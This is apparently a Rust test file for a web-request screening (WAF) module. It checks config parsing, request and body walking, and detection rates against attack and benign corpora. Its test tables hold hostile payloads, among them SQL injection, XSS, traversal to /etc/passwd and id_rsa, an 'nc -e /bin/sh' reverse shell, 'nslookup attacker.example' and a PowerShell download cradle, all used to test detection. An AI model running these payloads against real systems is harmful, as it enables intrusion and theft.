//! Configuration, request/body walking, corpus quality and robustness tests.

use super::*;
use crate::payload::PayloadProblem;
use serde_json::json;

/// Bodies screening cannot read, through the pipeline.
mod unreadable;

fn rule(v: Value) -> ScreeningRule {
    compile_screening(&v, "policies.p.screening").unwrap()
}

fn errors(v: Value) -> Vec<(String, String)> {
    let found = compile_screening(&v, "policies.p.screening").unwrap_err();
    found.0.into_iter().map(|e| (e.path, e.message)).collect()
}

fn request<'a>(headers: &'a [(String, Vec<u8>)]) -> RequestView<'a> {
    RequestView {
        headers: crate::request::leaked_headers(headers),
        client_ip: None,
        route_policy: None,
        route_name: None,
        virtual_host: None,
    }
}

/// Request headers as (name, value) pairs.
type Hs<'a> = Vec<(&'a str, &'a str)>;

fn headers(pairs: &[(&str, &str)]) -> Vec<(String, Vec<u8>)> {
    pairs
        .iter()
        .map(|(n, v)| (n.to_string(), v.as_bytes().to_vec()))
        .collect()
}

// ---- configuration ----

#[test]
fn defaults_and_full_config() {
    let r = rule(json!({}));
    assert_eq!(r, ScreeningRule::default());
    assert_eq!(r.sensitivity, Sensitivity::Medium);
    assert!(r.blocks());
    assert_eq!(r.headers, HeaderSet::All);

    let r = rule(json!({
        "sqli": false, "xss": true, "traversal": false, "command_injection": true,
        "sensitivity": "high", "mode": "detect",
        "skip": ["query.q", "header.Referer", "json./a/*/b~1c", "cookie.session", "form.body", "path"],
        "headers": ["User-Agent", "x-forwarded-host"],
        "bots": {"block_scanners": false, "require_user_agent": true, "allow": ["curl/"]}
    }));
    assert!(!r.sqli && r.xss && !r.traversal && r.command_injection);
    assert_eq!(r.sensitivity, Sensitivity::High);
    assert!(!r.blocks());
    assert_eq!(
        r.headers,
        HeaderSet::Listed(vec!["user-agent".into(), "x-forwarded-host".into()])
    );
    assert_eq!(r.skip.header, vec!["referer"]);
    assert_eq!(
        r.skip.json,
        vec![vec!["a".to_string(), "*".to_string(), "b/c".to_string()]]
    );
    assert!(r.skip.path);
    assert!(!r.bots.block_scanners && r.bots.require_user_agent);
    assert_eq!(r.bots.allow, vec!["curl/"]);
}

#[test]
fn config_errors_table() {
    // (config, expected error paths)
    let cases: Vec<(Value, Vec<&str>)> = vec![
        (json!([]), vec!["policies.p.screening"]),
        (json!({"sqli": "yes"}), vec!["policies.p.screening.sqli"]),
        (
            json!({"sensitivity": "extreme"}),
            vec!["policies.p.screening.sensitivity"],
        ),
        (json!({"mode": "shadow"}), vec!["policies.p.screening.mode"]),
        (
            json!({"skip": ["query."]}),
            vec!["policies.p.screening.skip[0]"],
        ),
        (
            json!({"skip": ["body.x", "json.a", 3]}),
            vec![
                "policies.p.screening.skip[0]",
                "policies.p.screening.skip[1]",
                "policies.p.screening.skip[2]",
            ],
        ),
        (
            json!({"headers": ["bad header", "cookie"]}),
            vec![
                "policies.p.screening.headers[0]",
                "policies.p.screening.headers[1]",
            ],
        ),
        (
            json!({"bots": {"allow": [""], "block": true}}),
            vec![
                "policies.p.screening.bots.allow[0]",
                "policies.p.screening.bots.block",
            ],
        ),
        (
            json!({"bodies": ["yaml", "json", 1]}),
            vec![
                "policies.p.screening.bodies[0]",
                "policies.p.screening.bodies[2]",
            ],
        ),
        (
            json!({"bodies": "json"}),
            vec!["policies.p.screening.bodies"],
        ),
        (
            json!({"sqlii": true, "xss": 1}),
            vec!["policies.p.screening.sqlii", "policies.p.screening.xss"],
        ),
    ];
    for (config, want) in cases {
        let mut got: Vec<String> = errors(config.clone()).into_iter().map(|(p, _)| p).collect();
        got.sort();
        assert_eq!(got, want, "{config}");
    }
}

// ---- requests ----

#[test]
fn screens_every_request_location() {
    let r = rule(json!({"headers": ["user-agent", "referer", "x-forwarded-host"]}));
    // (headers, expected (class, location key))
    let cases: Vec<(Hs, Option<(Class, &str)>)> = vec![
        (vec![(":path", "/api/users?id=42&name=O%27Brien")], None),
        (
            vec![(":path", "/api/users?id=1%27%20or%201%3D1--")],
            Some((Class::Sqli, "query.id")),
        ),
        (
            vec![(":path", "/api/users?q=1+union+select+1,2")],
            Some((Class::Sqli, "query.q")),
        ),
        (
            vec![(":path", "/api/%3Cscript%3E")],
            Some((Class::Xss, "path")),
        ),
        (
            vec![(":path", "/api/files?name=..%2f..%2fetc%2fpasswd")],
            Some((Class::Traversal, "query.name")),
        ),
        (
            vec![(":path", "/api/ping?host=127.0.0.1%3Bwhoami")],
            Some((Class::CommandInjection, "query.host")),
        ),
        (
            // `/etc/passwd` anywhere is a sensitive file now, and traversal is tried before
            // command injection.
            vec![(":path", "/api/ping?host=127.0.0.1%3Bcat%20/etc/passwd")],
            Some((Class::Traversal, "query.host")),
        ),
        (
            vec![(":path", "/api?%3Cscript%3E=1")],
            Some((Class::Xss, "query_name")),
        ),
        (
            vec![
                (":path", "/a"),
                ("cookie", "theme=dark; sid=x%27%20or%20%271%27%3D%271"),
            ],
            Some((Class::Sqli, "cookie.sid")),
        ),
        (
            vec![
                (":path", "/a"),
                ("cookie", "theme=dark; <script>alert(1)</script>=1"),
            ],
            Some((Class::Xss, "cookie_name")),
        ),
        // A pair without `=`: a value with an empty name.
        (
            vec![(":path", "/a"), ("cookie", "theme=dark; ../../etc/passwd")],
            Some((Class::Traversal, "cookie.")),
        ),
        (
            vec![
                (":path", "/a"),
                (
                    "cookie",
                    "_ga=GA1.2.3.4; __Host-sid=abc; JSESSIONID=x.y; flag; a-b.c=d",
                ),
            ],
            None,
        ),
        (
            vec![
                (":path", "/a"),
                ("referer", "https://x.example/?q=<script>alert(1)</script>"),
            ],
            Some((Class::Xss, "header.referer")),
        ),
        (
            vec![(":path", "/a"), ("x-forwarded-host", "x;id")],
            Some((Class::CommandInjection, "header.x-forwarded-host")),
        ),
        (vec![(":path", "/a"), ("x-other", "x;id")], None),
        (
            vec![(":path", "/a"), ("user-agent", "Mozilla/5.0 ' or 1=1--")],
            Some((Class::Sqli, "user_agent")),
        ),
        (
            vec![(":path", "/a"), ("user-agent", "sqlmap/1.7")],
            Some((Class::Bot, "user_agent")),
        ),
        (vec![(":path", "/a#<script>")], None),
    ];
    for (hs, want) in cases {
        let hs = headers(&hs);
        let got = r
            .screen_request(&request(&hs))
            .map(|d| (d.class, d.location.key()));
        let want = want.map(|(c, k)| (c, k.to_string()));
        assert_eq!(got, want, "{hs:?}");
    }
}

#[test]
fn skip_list_and_class_switches() {
    let r =
        rule(json!({"skip": ["query.q", "cookie.raw", "header.referer", "path"], "sqli": false}));
    let hs = headers(&[
        (":path", "/x/<script>?q=<script>&r=1"),
        ("cookie", "raw=<script>"),
        ("referer", "<script>"),
    ]);
    assert_eq!(r.screen_request(&request(&hs)), None);
    // Skipping a cookie's value never skips its name.
    let hs = headers(&[(":path", "/x"), ("cookie", "raw=1; <script>=1")]);
    assert_eq!(
        r.screen_request(&request(&hs)).map(|d| d.location),
        Some(Location::CookieName)
    );
    // An encoded name is decoded before the skip comparison.
    let hs = headers(&[(":path", "/x?%71=<script>")]);
    assert_eq!(r.screen_request(&request(&hs)), None);
    let hs = headers(&[(":path", "/x?q2=<script>")]);
    assert_eq!(
        r.screen_request(&request(&hs)).map(|d| d.location),
        Some(Location::Query { name: "q2".into() })
    );
    // The SQLi class is off.
    let hs = headers(&[(":path", "/x?a=1%27%20or%201%3D1--")]);
    assert_eq!(r.screen_request(&request(&hs)), None);
}

#[test]
fn bots_policy() {
    let r = rule(json!({"bots": {"require_user_agent": true, "allow": ["MyMonitor/"]}}));
    let cases: Vec<(Hs, Option<&str>)> = vec![
        (vec![(":path", "/")], Some("bot.missing_user_agent")),
        (
            vec![(":path", "/"), ("user-agent", "")],
            Some("bot.missing_user_agent"),
        ),
        (
            vec![
                (":path", "/"),
                (
                    "user-agent",
                    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
                ),
            ],
            Some("bot.scanner"),
        ),
        (
            vec![
                (":path", "/"),
                ("user-agent", "MyMonitor/1.0 (masscan-compatible)"),
            ],
            None,
        ),
        (
            vec![
                (":path", "/"),
                ("user-agent", "Mozilla/5.0 (X11; Linux x86_64)"),
            ],
            None,
        ),
    ];
    for (hs, want) in cases {
        let hs = headers(&hs);
        let got = r.screen_request(&request(&hs));
        assert_eq!(got.as_ref().map(|d| d.rule_id), want, "{hs:?}");
        if let Some(d) = got {
            assert_eq!(
                (d.class.as_str(), d.location),
                ("bad_bot", Location::UserAgent)
            );
        }
    }
}

#[test]
fn locations_never_carry_the_payload() {
    let r = ScreeningRule::default();
    let hs = headers(&[(
        ":path",
        "/x?a%3Cscript%3Ealert(1)%3C%2Fscript%3E%20very%20long%20name=1",
    )]);
    let d = r.screen_request(&request(&hs)).unwrap();
    assert_eq!(d.location, Location::QueryName);
    let body = br#"{"x<y": "' or 1=1--"}"#;
    let d = r.screen_body("application/json", body).unwrap();
    assert_eq!(d.location.key(), "json./x_y");
    // A member name that is itself the payload: located by its object, never repeated.
    let body = br#"{"a": {"<script>alert(1)</script>": 1}}"#;
    let d = r.screen_body("application/json", body).unwrap();
    assert_eq!(d.location.key(), "json_name./a");
    assert!(!d.location.key().contains('<'));
}

// ---- bodies ----

#[test]
fn every_duplicate_member_is_screened() {
    // Parsers disagree on which repeated name wins: an upstream that takes the first value
    // must not receive an injection that only the last value was screened for.
    let r = ScreeningRule::default();
    for body in [
        &br#"{"q": "' or 1=1--", "q": "x"}"#[..],
        br#"{"q": "x", "q": "' or 1=1--"}"#,
        br#"{"a": {"q": "x", "b": 1, "q": "<script>alert(1)</script>"}}"#,
    ] {
        let d = r.screen_body("application/json", body);
        assert!(d.is_some(), "{}", String::from_utf8_lossy(body));
    }
    assert!(r
        .screen_body("application/json", br#"{"q": "x", "q": "y"}"#)
        .is_none());
}

#[test]
fn screens_bodies() {
    let r = rule(json!({"skip": ["json./description", "json./items/*/note", "form.comment"]}));
    // (media type, body, expected location key)
    let cases: Vec<(&str, &[u8], Option<&str>)> = vec![
        (
            "application/json",
            br#"{"name": "O'Brien", "tags": ["a", "b"], "n": 1}"#,
            None,
        ),
        (
            "application/json",
            br#"{"a": {"b": [1, "x' or '1'='1"]}}"#,
            Some("json./a/b/1"),
        ),
        (
            "application/json",
            br#"{"description": "<script>alert(1)</script>"}"#,
            None,
        ),
        (
            "application/json",
            br#"{"items": [{"note": "<script>"}, {"name": ";id"}]}"#,
            Some("json./items/1/name"),
        ),
        (
            "application/vnd.api+json",
            br#"["../../etc/passwd"]"#,
            Some("json./0"),
        ),
        (
            "application/json",
            br#"{"a/b~c": "<svg onload=alert(1)>"}"#,
            Some("json./a_b_c"),
        ),
        // Member names are screened like query and form field names...
        (
            "application/json",
            br#"{"sort": {"name' or 1=1--": "asc"}}"#,
            Some("json_name./sort"),
        ),
        (
            "application/json",
            br#"{"../../etc/passwd": true}"#,
            Some("json_name."),
        ),
        // ...a skipped value's own name too, but not the names inside a skipped value.
        (
            "application/json",
            br#"{"items": [{"note": {"<script>alert(1)</script>": 1}}]}"#,
            None,
        ),
        (
            "application/json",
            br#"{"items": [{"<svg onload=alert(1)>": 1}]}"#,
            Some("json_name./items/0"),
        ),
        (
            "application/json",
            br#"{"user_id": 1, "first-name": "x", "e.mail": "a@b.c", "\u00fcn\u00efcode": "y"}"#,
            None,
        ),
        ("application/json", b"{not json", None),
        (
            "application/x-www-form-urlencoded",
            b"name=O%27Brien&comment=%3Cscript%3E",
            None,
        ),
        (
            "application/x-www-form-urlencoded",
            b"name=1+union+select+1,2--&x=1",
            Some("form.name"),
        ),
        (
            "application/x-www-form-urlencoded",
            b"%3Cscript%3E=1",
            Some("form_name"),
        ),
        ("text/plain", b"<script>alert(1)</script>", None),
        ("application/json", b"", None),
    ];
    for (media, body, want) in cases {
        let got = r.screen_body(media, body).map(|d| d.location.key());
        assert_eq!(got.as_deref(), want, "{}", String::from_utf8_lossy(body));
    }
}

#[test]
fn deep_json_is_bounded() {
    let r = ScreeningRule::default();
    // Deeper than MAX_JSON_DEPTH: not walked past the bound, and no stack overflow.
    let mut v = json!("<script>alert(1)</script>");
    for _ in 0..(MAX_JSON_DEPTH + 10) {
        v = json!([v]);
    }
    assert_eq!(r.screen_json(&v), None);
    let mut v = json!("<script>alert(1)</script>");
    for _ in 0..10 {
        v = json!({"k": v});
    }
    assert!(r.screen_json(&v).is_some());
}

/// The walk screens strings in place unless a `skip` pattern reads the path: both ways answer
/// alike at the depth bound (a string at `MAX_JSON_DEPTH` is screened, one deeper is not), with
/// numbers, booleans and `null` beside it, and name the same pointer.
#[test]
fn json_walk_answers_alike_with_and_without_skip_patterns() {
    let plain = ScreeningRule::default();
    let with_skip = rule(json!({"skip": ["json./nothing/here"]}));
    for depth in [1, 2, MAX_JSON_DEPTH - 1, MAX_JSON_DEPTH, MAX_JSON_DEPTH + 1] {
        for object in [false, true] {
            let mut v = json!("<script>alert(1)</script>");
            for level in 1..=depth {
                v = if object {
                    json!({"a": 1, "b": true, "c": null, "k": v, "z": "plain"})
                } else {
                    json!([1.5, false, null, v, format!("x{level}")])
                };
            }
            let a = plain.screen_json(&v);
            let b = with_skip.screen_json(&v);
            assert_eq!(a.is_some(), depth <= MAX_JSON_DEPTH, "{depth} {object}");
            assert_eq!(
                a.map(|d| d.location.key()),
                b.map(|d| d.location.key()),
                "{depth} {object}"
            );
        }
    }
    let v = json!({"n": [1, {"m": [null, "x", "1 union select password from users"]}]});
    let got = plain.screen_json(&v).map(|d| d.location.key());
    assert_eq!(got, with_skip.screen_json(&v).map(|d| d.location.key()));
    assert_eq!(got.as_deref(), Some("json./n/1/m/2"));
}

// ---- corpus quality ----

pub(crate) const ATTACKS: [(Class, &str); 4] = [
    (Class::Sqli, include_str!("corpus/attacks/sqli.txt")),
    (Class::Xss, include_str!("corpus/attacks/xss.txt")),
    (
        Class::Traversal,
        include_str!("corpus/attacks/path_traversal.txt"),
    ),
    (
        Class::CommandInjection,
        include_str!("corpus/attacks/command_injection.txt"),
    ),
];

pub(crate) const BENIGN: [&str; 5] = [
    include_str!("corpus/benign/names.txt"),
    include_str!("corpus/benign/prose.txt"),
    include_str!("corpus/benign/identifiers.txt"),
    include_str!("corpus/benign/urls.txt"),
    include_str!("corpus/benign/structured.txt"),
];

fn lines(s: &str) -> impl Iterator<Item = &str> {
    s.lines().filter(|l| !l.is_empty())
}

/// Percent-encodes everything but unreserved characters, as a well-behaved client would put a
/// value into a query string.
fn encode(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                char::from(b).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

fn with_sensitivity(s: Sensitivity) -> ScreeningRule {
    ScreeningRule {
        sensitivity: s,
        ..ScreeningRule::default()
    }
}

#[test]
fn corpus_sizes() {
    for (class, text) in ATTACKS {
        assert!(lines(text).count() >= 60, "{}", class.as_str());
    }
    assert!(BENIGN.iter().map(|t| lines(t).count()).sum::<usize>() >= 400);
}

#[test]
fn corpus_detection_at_medium() {
    let r = with_sensitivity(Sensitivity::Medium);
    for (class, text) in ATTACKS {
        let all: Vec<&str> = lines(text).collect();
        let missed: Vec<&&str> = all
            .iter()
            .filter(|p| r.screen_value(p.as_bytes(), ValueKind::Query).is_none())
            .collect();
        let rate = 1.0 - missed.len() as f64 / all.len() as f64;
        assert!(
            rate >= 0.9,
            "{}: {rate:.3}, missed {missed:#?}",
            class.as_str()
        );
    }
}

#[test]
fn corpus_no_false_positives_at_medium() {
    for s in [Sensitivity::Low, Sensitivity::Medium] {
        let r = with_sensitivity(s);
        let mut fps = Vec::new();
        for text in BENIGN {
            for v in lines(text) {
                if let Some(d) = r.screen_value(v.as_bytes(), ValueKind::Json) {
                    fps.push((v, "json", d));
                }
                if let Some(d) = r.screen_value(encode(v).as_bytes(), ValueKind::Query) {
                    fps.push((v, "query", d));
                }
            }
        }
        assert!(fps.is_empty(), "{}: {fps:#?}", s.as_str());
    }
}

// ---- robustness ----

proptest::proptest! {
    // Whatever the bytes and wherever they arrive, screening never panics.
    #[test]
    fn screening_never_panics(bytes in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..400)) {
        for s in Sensitivity::ALL {
            let r = with_sensitivity(s);
            for kind in [ValueKind::Path, ValueKind::Query, ValueKind::Json] {
                let _ = r.screen_value(&bytes, kind);
            }
            let _ = r.screen_body("application/x-www-form-urlencoded", &bytes);
        }
    }

    // Attack-shaped noise: the detectors' trigger bytes and keywords in random order.
    #[test]
    fn screening_never_panics_on_attack_alphabet(s in "([' \"<>;|&`$(){}%#=/\\\\.\\-*@:0-9a-z]|union|select|or|script|on|javascript|\\.\\./|%2e|%c0%af|&#x3c;|\\$\\{IFS\\}|/\\*!|--){0,80}") {
        for sens in Sensitivity::ALL {
            let _ = with_sensitivity(sens).screen_value(s.as_bytes(), ValueKind::Query);
        }
    }
}

#[test]
fn ordinary_json_member_names_pass_at_every_sensitivity() {
    // Names real APIs use (JSON-LD, JSON Schema, OData, GraphQL, XML-to-JSON, Mongo-style
    // operators): member-name screening must not refuse them.
    let names = [
        "id",
        "userId",
        "user_id",
        "first-name",
        "e.mail",
        "@context",
        "@id",
        "@type",
        "$ref",
        "$schema",
        "$id",
        "$gt",
        "$in",
        "__typename",
        "odata.type",
        "@odata.nextLink",
        "#text",
        "-attr",
        "xml:lang",
        "a b",
        "Content-Type",
        "created_at",
        "price(EUR)",
        "size[0]",
        "select",
        "order",
        "from",
        "where",
        "delete",
        "update",
        "script",
        "union",
        "drop",
        "passwd",
        "etc",
        "cmd",
        "exec",
        "x-forwarded-for",
        "50%",
        "q&a",
        "1",
        "",
    ];
    for sensitivity in ["low", "medium", "high"] {
        let r = rule(json!({"sensitivity": sensitivity}));
        for name in names {
            let body = serde_json::to_vec(&json!({ name: {name: "x"} })).unwrap();
            let got = r.screen_body("application/json", &body);
            assert_eq!(got, None, "{sensitivity}: {name:?}");
        }
    }
}

#[test]
fn body_kinds_from_the_content_type() {
    let all = ScreeningRule::default();
    let json_only = rule(json!({"bodies": ["json"]}));
    let none = rule(json!({"bodies": []}));
    let no_classes =
        rule(json!({"sqli": false, "xss": false, "traversal": false, "command_injection": false}));
    let multi = |b: &[u8]| {
        Some(ScreenedBody::Multipart {
            boundary: b.to_vec(),
        })
    };
    // (content type, all kinds, json only)
    let cases: Vec<(&str, Option<ScreenedBody>, Option<ScreenedBody>)> = vec![
        (
            "application/json",
            Some(ScreenedBody::Json),
            Some(ScreenedBody::Json),
        ),
        (
            "Application/Problem+JSON; charset=utf-8",
            Some(ScreenedBody::Json),
            Some(ScreenedBody::Json),
        ),
        (
            "application/x-www-form-urlencoded",
            Some(ScreenedBody::Form),
            None,
        ),
        ("multipart/form-data; boundary=abc", multi(b"abc"), None),
        ("MULTIPART/FORM-DATA; boundary=\"a b\"", multi(b"a b"), None),
        // Unreadable without a boundary: still screened, so that the body is refused.
        ("multipart/form-data", multi(b""), None),
        ("multipart/mixed; boundary=abc", None, None),
        ("multipart/x-www-form-urlencoded", None, None),
        ("text/form-data", None, None),
        ("text/plain", Some(ScreenedBody::Text), None),
        ("Text/Plain; charset=utf-8", Some(ScreenedBody::Text), None),
        ("application/x-ndjson", Some(ScreenedBody::NdJson), None),
        ("application/jsonl", Some(ScreenedBody::NdJson), None),
        ("application/xml", Some(ScreenedBody::Xml), None),
        ("text/xml; charset=utf-8", Some(ScreenedBody::Xml), None),
        ("application/soap+xml", Some(ScreenedBody::Xml), None),
        ("text/html", None, None),
        ("application/octet-stream", None, None),
        ("garbage", None, None),
    ];
    for (ct, want_all, want_json) in cases {
        assert_eq!(all.body_kind(ct.as_bytes()), want_all, "{ct}");
        assert_eq!(json_only.body_kind(ct.as_bytes()), want_json, "{ct}");
        assert_eq!(none.body_kind(ct.as_bytes()), None, "{ct}");
        assert_eq!(no_classes.body_kind(ct.as_bytes()), None, "{ct}");
    }
}

#[test]
fn multipart_parts_are_screened_name_then_file_name_or_value() {
    let r = rule(json!({"skip": ["form.bio"]}));
    let body = |parts: &[&str]| {
        let mut out = String::new();
        for p in parts {
            out.push_str("--q\r\n");
            out.push_str(p);
            out.push_str("\r\n");
        }
        out.push_str("--q--\r\n");
        out.into_bytes()
    };
    let kind = ScreenedBody::Multipart {
        boundary: b"q".to_vec(),
    };
    let cases: Vec<(Vec<u8>, Option<&str>)> = vec![
        (body(&["Content-Disposition: form-data; name=\"title\"\r\n\r\nO'Brien's notes"]), None),
        (body(&["Content-Disposition: form-data; name=\"title\"\r\n\r\n<script>alert(1)</script>"]), Some("form.title")),
        (body(&["Content-Disposition: form-data; name=\"<svg onload=alert(1)>\"\r\n\r\nx"]), Some("form_name")),
        (
            body(&["Content-Disposition: form-data; name=\"doc\"; filename=\"..\\\\..\\\\boot.ini\"\r\n\r\nx"]),
            Some("filename.doc"),
        ),
        (
            body(&["Content-Disposition: form-data; name=\"doc\"; filename=\"a.txt\"\r\nContent-Type: text/plain\r\n\r\n' or 1=1--"]),
            None,
        ),
        (body(&["Content-Disposition: form-data; name=\"bio\"\r\n\r\n<script>alert(1)</script>"]), None),
        // `+` is not a space and names are not percent-decoded for the skip list.
        (body(&["Content-Disposition: form-data; name=\"%62io\"\r\n\r\n<script>alert(1)</script>"]), Some("form._62io")),
    ];
    for (b, want) in cases {
        let got = r
            .screen_body_of(&kind, &b)
            .unwrap()
            .map(|d| d.location.key());
        assert_eq!(got.as_deref(), want, "{}", String::from_utf8_lossy(&b));
    }
    assert_eq!(
        r.screen_body_of(&kind, b"--q\r\n"),
        Err(PayloadProblem::MalformedMultipart)
    );
    let no_boundary = ScreenedBody::Multipart { boundary: vec![] };
    assert_eq!(
        r.screen_body_of(&no_boundary, &body(&[])),
        Err(PayloadProblem::MalformedMultipart)
    );
}

#[test]
fn ordinary_file_names_pass() {
    // File names people upload; `medium` (the default) and `low` must pass them all.
    let names = [
        "IMG_2024-01-01 12.34.56.jpg",
        "report (1).pdf",
        "r\u{e9}sum\u{e9}.docx",
        "C:\\fakepath\\photo.png",
        "O'Brien - contract.pdf",
        "my file's copy (final) [v2].docx",
        "select statement.sql",
        "drop table notes.txt",
        "a&b; c.txt",
        "backup.tar.gz",
        "~$budget.xlsx",
        ".env.example",
        "100% done!.png",
        "index.html",
        "script.js",
    ];
    for sensitivity in ["low", "medium"] {
        let r = rule(json!({"sensitivity": sensitivity}));
        for name in names {
            assert_eq!(
                r.screen_value(name.as_bytes(), ValueKind::Multipart),
                None,
                "{sensitivity}: {name:?}"
            );
        }
    }
}

// ---- families added with the public-source corpus (issue 13) ----

/// Each new rule id on an attack, and a near miss of ordinary text that must pass, at the
/// default sensitivity, screened as a query value.
#[test]
fn new_families_table() {
    let r = rule(json!({}));
    let attacks: &[(&str, &str)] = &[
        // command injection without a separator
        ("uname -a", "cmdi.command_line"),
        ("nc -e /bin/sh 10.0.0.1 4444", "cmdi.command_line"),
        ("nslookup attacker.example", "cmdi.command_line"),
        ("rundll32 javascript:x", "cmdi.command_line"),
        ("powershell -nop -w hidden", "cmdi.command_line"),
        (
            "IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
            "cmdi.powershell",
        ),
        ("Get-ChildItem -Path C:/Users", "cmdi.powershell"),
        ("() { :;}; /bin/bash -c id", "cmdi.shellshock"),
        ("/???/c?t /e??/p??s??", "cmdi.glob_path"),
        ("%COMSPEC% /c dir", "cmdi.windows_variable"),
        // Evasion inside the word is folded before the name lookup.
        ("x;c$@at${u} /e??/hosts", "cmdi.chained_command"),
        ("';exit(md5('x'));//", "cmdi.php_code"),
        // SQL without punctuation, catalogs, CASE, NoSQL
        ("ELT(8368=6547,9400)", "sqli.function_call"),
        (
            "1 AND 1=(SELECT 1 FROM SYSIBM.SYSDUMMY1)",
            "sqli.schema_probe",
        ),
        ("GENERATE_SERIES(1,2)", "sqli.function_call"),
        ("sys.uuid_to_bin (x)", "sqli.function_call"),
        (
            "(CASE WHEN 3337=5369 THEN 11 ELSE NULL END)",
            "sqli.case_when",
        ),
        (") AS x WHERE 9395=3778", "sqli.tautology"),
        (" and 1=1", "sqli.tautology"),
        ("1` UNION ALL SELECT NULL,NULL-- -", "sqli.union"),
        ("[$ne]", "sqli.nosql_operator"),
        ("{\"$where\": \"sleep(100)\"}", "sqli.nosql_operator"),
        // XSS without a tag breakout
        ("document.location='//x/'+document.cookie", "xss.dom_sink"),
        ("alert`1`", "xss.dom_sink"),
        ("window['al'+'ert'](1)", "xss.dom_sink"),
        ("<x:script>alert(1)</x:script>", "xss.script_tag"),
        ("<marquee onstart=alert(1)>", "xss.event_handler"),
        ("<xmp><img src=x>", "xss.dangerous_tag"),
        ("+ADw-script+AD4-x+ADw-/script+AD4-", "xss.utf7"),
        // sensitive files anywhere
        ("/var/www/html/.htpasswd", "traversal.sensitive_file"),
        ("cat /proc/self/environ", "traversal.sensitive_file"),
        (
            "C:\\inetpub\\wwwroot\\web.config",
            "traversal.sensitive_file",
        ),
        ("/home/app/.ssh/id_rsa", "traversal.sensitive_file"),
    ];
    for (s, want) in attacks {
        let got = r.screen_value(encode(s).as_bytes(), ValueKind::Query);
        assert_eq!(got.map(|(_, id)| id), Some(*want), "{s}");
    }
    let benign = [
        "Call alert() sparingly in demos.",
        "Edit your /etc/hosts file to add the domain.",
        "In case when you travel, then call us.",
        "Telnet is an old protocol.",
        "Invoke the API with the get-item route",
        "python manage.py migrate",
        "Set up the ``python -m venv`` first",
        "The price is $5 and the filter is [$10, $20]",
        "src/components/Header.tsx",
        "https://cdn.example.com/img/2024/??/photo.jpg",
        "Save 20% on %DATE% orders",
        "elt and iif are spreadsheet words",
        "See package.json and tsconfig.json in the repo.",
        "{\"$gt\": 5}",
        "() => { return 1 }",
    ];
    for s in benign {
        assert_eq!(
            r.screen_value(encode(s).as_bytes(), ValueKind::Query),
            None,
            "{s}"
        );
        let body = serde_json::to_vec(&json!({ "v": s })).unwrap();
        assert_eq!(r.screen_body("application/json", &body), None, "{s}");
    }
}

/// Every request header is screened by default, except credentials, cookies (screened one by
/// one), pseudo-headers and `skip`ped ones; a listed set screens only its headers.
#[test]
fn headers_screened_by_default() {
    let all = rule(json!({}));
    let attack = "' or 1=1--";
    let hs = headers(&[(":path", "/a"), ("x-tenant", attack)]);
    let got = all.screen_request(&request(&hs)).map(|d| d.location.key());
    assert_eq!(got.as_deref(), Some("header.x-tenant"));
    for name in ["authorization", "proxy-authorization"] {
        let hs = headers(&[(":path", "/a"), (name, attack)]);
        assert_eq!(all.screen_request(&request(&hs)), None, "{name}");
    }
    let hs = headers(&[(":path", "/a"), (":authority", "<script>")]);
    assert_eq!(all.screen_request(&request(&hs)), None);
    let skipped = rule(json!({"skip": ["header.X-Tenant"]}));
    let hs = headers(&[(":path", "/a"), ("x-tenant", attack)]);
    assert_eq!(skipped.screen_request(&request(&hs)), None);
    let listed = rule(json!({"headers": ["referer"]}));
    assert_eq!(listed.screen_request(&request(&hs)), None);
    assert_eq!(rule(json!({"headers": "all"})).headers, HeaderSet::All);
    let e = errors(json!({"headers": "some"}));
    assert_eq!(e[0].0, "policies.p.screening.headers");
    // Ordinary browser headers pass.
    let hs = headers(&[
        (":path", "/a"),
        ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
        ("accept-language", "de-DE,de;q=0.9,en;q=0.8"),
        ("accept-encoding", "gzip, deflate, br, zstd"),
        ("sec-ch-ua", "\"Chromium\";v=\"128\", \"Not;A=Brand\";v=\"24\""),
        ("sec-ch-ua-platform", "\"Windows\""),
        ("sec-fetch-site", "same-origin"),
        ("if-none-match", "W/\"5e15153d-120f\""),
        ("x-forwarded-for", "203.0.113.7, 10.0.0.1"),
        ("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
        ("content-type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"),
        ("user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36"),
        ("referer", "https://shop.example/orders?page=1&sort=-created"),
        ("cache-control", "no-cache"),
        ("x-request-id", "9f1c2e7a-3b4d-4c5e-8f90-1a2b3c4d5e6f"),
    ]);
    assert_eq!(all.screen_request(&request(&hs)), None);
}

/// `exclude` silences a rule id on one location (or everywhere); other classes still run.
#[test]
fn exclusions_by_rule_and_location() {
    let r = rule(json!({"exclude": [
        {"rule": "sqli.tautology", "location": "query.filter"},
        {"rule": "xss.script_tag", "location": "json./docs/*"},
        {"rule": "bot.scanner"}
    ]}));
    let hs = headers(&[(":path", "/a?filter=%27%20or%201%3D1--")]);
    assert_eq!(r.screen_request(&request(&hs)), None);
    let hs = headers(&[(":path", "/a?q=%27%20or%201%3D1--")]);
    assert_eq!(
        r.screen_request(&request(&hs)).map(|d| d.rule_id),
        Some("sqli.tautology")
    );
    // The excluded rule's value is still screened for the other classes.
    let hs = headers(&[(":path", "/a?filter=%27%20or%201%3D1--%20%3Cscript%3E")]);
    assert_eq!(
        r.screen_request(&request(&hs)).map(|d| d.class),
        Some(Class::Xss)
    );
    let body = br#"{"docs": {"a": "<script>x</script>"}, "other": "<script>y</script>"}"#;
    let d = r.screen_body("application/json", body).unwrap();
    assert_eq!(d.location.key(), "json./other");
    let hs = headers(&[(":path", "/a"), ("user-agent", "sqlmap/1.8")]);
    assert_eq!(r.screen_request(&request(&hs)), None);
    let e = errors(json!({"exclude": [{"rule": "sqli.nope"}, {"location": "query.a"}, "x"]}));
    let paths: Vec<&str> = e.iter().map(|(p, _)| p.as_str()).collect();
    assert_eq!(
        paths,
        vec![
            "policies.p.screening.exclude[0].rule",
            "policies.p.screening.exclude[0]",
            "policies.p.screening.exclude[1]",
            "policies.p.screening.exclude[2]"
        ]
    );
}

/// `extra` vocabularies extend the built-in ones for this policy only.
#[test]
